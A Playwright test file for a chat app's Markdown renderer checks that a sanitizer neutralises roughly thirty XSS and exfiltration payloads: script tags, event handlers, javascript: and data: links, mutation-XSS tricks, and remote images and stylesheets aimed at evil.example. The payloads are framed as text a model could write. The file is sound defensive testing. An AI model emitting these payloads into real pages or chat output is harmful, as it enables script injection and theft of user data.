import { expect, test, type Page } from '@playwright/test'
import { startPageServer, type PageServer } from './page-server.ts'

/** faults.md 29: what a model could write to run code in the page, or to tell a foreign host what is read. */
const ATTACKS: Readonly<Record<string, string>> = {
  'script element': '<script>window.owned=1</script>',
  'script in a paragraph': 'Hi <script src="https://evil.example/x.js"></script> there',
  'event handler': '<img src=x onerror="window.owned=1">',
  'event handler without quotes': '<svg/onload=window.owned=1>',
  'svg with script': '<svg><script>window.owned=1</script></svg>',
  'svg animate': '<svg><a><animate attributeName=href values=javascript:window.owned=1 /><text>x</text></a></svg>',
  iframe: '<iframe src="javascript:parent.owned=1"></iframe><iframe srcdoc="<script>parent.owned=1</script>"></iframe>',
  'javascript link': '[click](javascript:window.owned=1)',
  'javascript link with case and tab': '[click](JaVa\tScript:window.owned=1)',
  'javascript link by entities': '[click](&#106;avascript:window.owned=1)',
  'javascript link by reference': '[click][1]\n\n[1]: javascript:window.owned=1',
  'javascript autolink': '<javascript:window.owned=1>',
  'vbscript link': '[click](vbscript:msgbox)',
  'data link': '[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cub3duZWQ9MTwvc2NyaXB0Pg==)',
  'link into this page': '[click](/contribute?auto=1)',
  'protocol-relative link': '[click](//evil.example/x)',
  'remote image': '![chat](https://evil.example/leak?q=secret)',
  'remote image by reference': '![chat][1]\n\n[1]: https://evil.example/leak',
  'data image': '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  'attribute break-out in a title': '[a](https://example.org "x\\" onmouseover=\\"window.owned=1")',
  'attribute break-out in an image': '![a" onerror="window.owned=1](x)',
  'code language break-out': '```"><img/src=x/onerror=window.owned=1>\ncode\n```',
  'html in code': '```html\n<img src=x onerror=window.owned=1>\n```',
  'html in inline code': '`<img src=x onerror=window.owned=1>`',
  'html in a table': '| a |\n| --- |\n| <img src=x onerror=window.owned=1> |',
  'mutation through noscript': '<noscript><p title="</noscript><img src=x onerror=window.owned=1>">',
  'mutation through math': '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.owned=1&gt;">',
  'form and button': '<form action="https://evil.example"><button formaction="javascript:window.owned=1">x</button></form>',
  'style and link': '<style>@import "https://evil.example/x.css"</style><link rel=stylesheet href=https://evil.example/x.css>',
  'meta refresh': '<meta http-equiv=refresh content="0;url=https://evil.example">',
  'base and object': '<base href="https://evil.example/"><object data="https://evil.example/x"></object><embed src="https://evil.example/x">',
  'named elements that shadow the document': '<a id=cookie name=cookie></a><form name=body></form>',
}

let server: PageServer
test.beforeAll(async () => {
  server = await startPageServer()
})
test.afterAll(() => server.close())

/** Opens the page and collects every request that leaves its origin. */
async function open(page: Page): Promise<{ readonly foreign: readonly string[] }> {
  const foreign: string[] = []
  page.on('request', (request) => {
    if (!request.url().startsWith(server.url)) foreign.push(request.url())
  })
  await page.goto(server.url)
  await expect(page.locator('ringlet-app main')).toBeVisible()
  return { foreign }
}

/** Only harmless elements and attributes are left, each address one that a person can judge. */
const leftOver = (page: Page, markdown: string) =>
  page.evaluate((given) => {
    const holder = document.createElement('template')
    holder.innerHTML = window.fixture.draw(given)
    const elements = [...holder.content.querySelectorAll('*')]
    return {
      tags: [...new Set(elements.map((element) => element.localName))],
      attributes: [...new Set(elements.flatMap((element) => element.getAttributeNames()))],
      addresses: elements.flatMap((element) => element.getAttribute('href') ?? []),
    }
  }, markdown)

test.describe('one page', () => {
  let page: Page
  let foreign: readonly string[] = []
  test.beforeAll(async ({ browser }) => {
    page = await browser.newPage()
    foreign = (await open(page)).foreign
  })
  test.afterAll(() => page.close())

  for (const [name, markdown] of Object.entries(ATTACKS)) {
    test(`29: ${name} does nothing`, async () => {
      const before = foreign.length
      const left = await leftOver(page, markdown)
      const harmless = ['p', 'em', 'a', 'code', 'pre', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'br']
      expect(left.tags.filter((tag) => !harmless.includes(tag))).toEqual([])
      expect(left.attributes.filter((attribute) => !['href', 'title', 'rel', 'target', 'data-language', 'data-blocked'].includes(attribute))).toEqual(
        [],
      )
      expect(left.addresses.filter((address) => !address.startsWith('https://example.org'))).toEqual([])
      // Two frames: time for an image's error or a handler to run.
      await page.evaluate(() => new Promise<void>((resolve) => requestAnimationFrame(() => requestAnimationFrame(() => resolve()))))
      expect(await page.evaluate(() => Reflect.has(window, 'owned') && Reflect.deleteProperty(window, 'owned'))).toBe(false)
      expect(foreign.slice(before)).toEqual([])
    })
  }
})

test('29: without the Markdown step, the sanitizer alone refuses the same attacks', async ({ page }) => {
  await open(page)
  const results = await page.evaluate((attacks) => attacks.map((attack) => window.fixture.purify(attack)), Object.values(ATTACKS))
  for (const html of results)
    expect(html).not.toMatch(/<(script|img|svg|iframe|form|style|link|meta|base|object|embed|math)|<[^>]*(\son\w+=|javascript:|data:)/i)
})

test('plain Markdown comes through: emphasis, lists, tables, code, safe links', async ({ page }) => {
  await open(page)
  const left = await leftOver(
    page,
    '**b** _i_ ~~d~~ `c`\n\n- one\n- two\n\n1. three\n\n> quote\n\n| h |\n| - |\n| c |\n\n```js\nlet x\n```\n\n[ok](https://example.org)',
  )
  expect(left.tags).toEqual(expect.arrayContaining(['strong', 'em', 'del', 'code', 'ul', 'ol', 'li', 'blockquote', 'table', 'pre', 'a']))
  expect(left.addresses).toEqual(['https://example.org'])
})

test('a code block has a copy button that copies exactly its code', async ({ page, context }) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write'])
  await open(page)
  await page.getByLabel('Your question').fill('code, please')
  await page.getByLabel('Your question').press('Enter')
  await page.evaluate(() => window.fixture.answer({ type: 'text', text: '```js\nconst a = 1 < 2\n```\n', completionTokens: 9 }))
  await page.locator('markdown-text').getByRole('button', { name: 'Copy' }).click()
  await expect(page.locator('markdown-text').getByRole('button', { name: 'Copied' })).toBeVisible()
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe('const a = 1 < 2')
})
